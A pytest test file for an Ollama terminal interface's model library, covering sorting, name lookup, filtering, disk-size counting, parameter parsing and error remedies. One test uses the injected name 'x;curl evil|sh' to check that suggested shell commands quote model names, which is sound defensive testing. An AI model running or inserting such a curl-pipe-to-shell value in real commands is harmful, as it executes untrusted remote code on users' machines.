"""The installed models as a collection."""

from __future__ import annotations

import pytest

from ollama_tui.core.errors import NoSuchModel, Refused
from ollama_tui.core.installed import refuse_taken
from ollama_tui.core.library import Column, Library, parameter_count
from ollama_tui.core.memory.verdict import Verdict
from ollama_tui.core.models import Model

SMALL = Model("b-small:latest", 1, "d1", 300.0, "llama", "137M", "F16", 2048, ("completion",))
LARGE = Model(
    "A-large:70b", 9, "d2", 100.0, "qwen", "70B", "Q4_K_M", 8192, ("completion", "vision")
)
ALIAS = Model("c-alias:latest", 9, "d2", 200.0, "qwen", "70B", "Q4_K_M", 8192)
BARE = Model("a-bare:latest")
CLOUD = Model("d-cloud:latest", None, "d3", 400.0, remote_host="https://ollama.com:443")

LIBRARY = Library((SMALL, LARGE, ALIAS, BARE, CLOUD))


def names(library: Library) -> str:
    return " ".join(model.name.partition(":")[0] for model in library)


class TestSorting:
    @pytest.mark.parametrize(
        ("column", "order"),
        [
            (Column.NAME, "a-bare A-large b-small c-alias d-cloud"),
            (Column.SIZE, "b-small A-large c-alias a-bare d-cloud"),
            (Column.PARAMETERS, "b-small A-large c-alias a-bare d-cloud"),
            (Column.QUANTIZATION, "b-small A-large c-alias a-bare d-cloud"),
            (Column.CONTEXT, "b-small A-large c-alias a-bare d-cloud"),
            (Column.CAPABILITIES, "b-small A-large a-bare c-alias d-cloud"),
            (Column.AGE, "d-cloud b-small c-alias A-large a-bare"),
        ],
    )
    def test_what_is_unknown_comes_last_and_ties_go_by_name(
        self, column: Column, order: str
    ) -> None:
        assert names(LIBRARY.sorted_by(column)) == order

    @pytest.mark.parametrize(
        ("column", "order"),
        [
            (Column.NAME, "d-cloud c-alias b-small A-large a-bare"),
            (Column.SIZE, "A-large c-alias b-small a-bare d-cloud"),
            (Column.PARAMETERS, "A-large c-alias b-small a-bare d-cloud"),
            (Column.AGE, "A-large c-alias b-small d-cloud a-bare"),
        ],
    )
    def test_the_other_way_too(self, column: Column, order: str) -> None:
        assert names(LIBRARY.sorted_by(column, reverse=True)) == order

    def test_what_fits_comes_before_what_does_not_and_what_is_not_known(self) -> None:
        verdicts = {"d1": Verdict.SPILLS, "d2": Verdict.FITS}
        by_fit = LIBRARY.sorted_by(Column.FIT, verdicts=verdicts)
        other_way = LIBRARY.sorted_by(Column.FIT, reverse=True, verdicts=verdicts)

        assert names(by_fit) == "A-large c-alias b-small a-bare d-cloud"
        assert names(other_way) == "b-small A-large c-alias a-bare d-cloud"

    def test_without_verdicts_they_stay_in_order(self) -> None:
        assert names(LIBRARY.sorted_by(Column.FIT)) == "a-bare A-large b-small c-alias d-cloud"

    def test_a_parameter_size_that_is_no_number_counts_as_unknown(self) -> None:
        odd = Library((Model("a", parameter_size="nanB"), SMALL, Model("c", parameter_size="big")))

        assert names(odd.sorted_by(Column.PARAMETERS)) == "b-small a c"

    def test_sorting_makes_a_new_library(self) -> None:
        LIBRARY.sorted_by(Column.SIZE)

        assert LIBRARY.models == (SMALL, LARGE, ALIAS, BARE, CLOUD)


class TestFindingAModel:
    @pytest.mark.parametrize("name", ["b-small", "b-small:latest", "B-SMALL", " library/b-small"])
    def test_a_missing_tag_means_latest_and_letter_case_folds(self, name: str) -> None:
        assert LIBRARY.get(name) is SMALL

    @pytest.mark.parametrize("name", ["a-large", "a-large:7b", "", "a b", "[/b]"])
    def test_what_is_not_installed_is_not_found(self, name: str) -> None:
        assert LIBRARY.get(name) is None

    def test_a_name_that_no_ollama_would_give_is_found_as_it_is(self) -> None:
        assert Library((Model("Odd Name"),)).get("odd name") == Model("Odd Name")


class TestFiltering:
    @pytest.mark.parametrize(
        ("text", "found"),
        [
            ("", "b-small A-large c-alias a-bare d-cloud"),
            ("  ", "b-small A-large c-alias a-bare d-cloud"),
            ("LARGE", "A-large"),
            ("latest a", "b-small c-alias a-bare d-cloud"),
            ("latest alias", "c-alias"),
            ("[/b]", ""),
            (".*", ""),
        ],
    )
    def test_each_word_must_be_in_the_name(self, text: str, found: str) -> None:
        assert names(LIBRARY.matching(text)) == found

    def test_models_can_be_left_out(self) -> None:
        assert names(LIBRARY.without(["a-LARGE:70b", "absent"])) == "b-small c-alias a-bare d-cloud"


class TestCounting:
    def test_two_names_of_one_digest_take_their_disk_once(self) -> None:
        assert LIBRARY.disk_size == 10

    def test_models_without_a_digest_are_counted_each(self) -> None:
        assert Library((Model("a", 3), Model("b", 3))).disk_size == 6

    def test_an_empty_library_takes_none(self) -> None:
        assert Library().disk_size == 0
        assert len(Library()) == 0

    def test_the_other_names_of_a_digest_are_its_aliases(self) -> None:
        assert LIBRARY.aliases_of(LARGE) == ("c-alias:latest",)
        assert LIBRARY.aliases_of(SMALL) == ()
        assert LIBRARY.aliases_of(BARE) == ()

    @pytest.mark.parametrize(
        ("words", "count"),
        [
            ("14.8B", 14.8e9),
            ("137M", 137e6),
            ("8x22B", 176e9),
            ("1.5T", 1.5e12),
            ("500K", 500e3),
            ("7b", 7e9),
            ("", None),
            ("B", None),
            ("x7B", None),
            ("7", None),
            ("large", None),
            ("nanB", None),
            ("infB", None),
            ("1e999B", None),
        ],
    )
    def test_parameters_are_read_as_the_server_words_them(
        self, words: str, count: float | None
    ) -> None:
        assert parameter_count(words) == count


def test_libraries_of_the_same_models_are_equal() -> None:
    assert Library((SMALL,)) == Library((SMALL,))
    assert Library((SMALL,)) != Library((LARGE,))


class TestCommandsToPaste:
    def test_a_name_is_one_word_of_the_shell(self) -> None:
        hostile = "x;curl evil|sh"

        with pytest.raises(NoSuchModel) as absent:
            Library().installed(hostile, can_be_pulled=True)
        with pytest.raises(Refused) as taken:
            refuse_taken(Library((Model(hostile),)), hostile)

        assert absent.value.remedy == f"`ollama-tui pull '{hostile}'` fetches it."
        assert taken.value.remedy == f"`ollama-tui rm '{hostile}'` deletes it first."


class TestANameThatIsNotInstalled:
    @pytest.mark.parametrize(
        ("name", "remedy"),
        [
            ("qwen3", "Did you mean qwen3:8b?"),
            ("tiiny", "Did you mean tiny?"),
            ("zzz", "`ollama-tui ls` lists what is."),
        ],
    )
    def test_the_nearest_is_named_or_where_all_are_listed(self, name: str, remedy: str) -> None:
        with pytest.raises(NoSuchModel) as absent:
            Library((Model("qwen3:8b"), Model("tiny:latest"))).installed(name)

        assert absent.value.remedy == remedy

    def test_where_it_can_be_pulled_that_is_said_too(self) -> None:
        with pytest.raises(NoSuchModel) as absent:
            Library((Model("qwen3:8b"),)).installed("qwen3", can_be_pulled=True)

        pull = "`ollama-tui pull qwen3` fetches it."
        assert absent.value.remedy == f"Did you mean qwen3:8b? {pull}"


def test_only_what_is_known_not_to_fit_is_left_out() -> None:
    verdicts = {"d1": Verdict.TIGHT, "d2": Verdict.FITS}

    assert names(LIBRARY.fitting(verdicts)) == "A-large c-alias a-bare d-cloud"
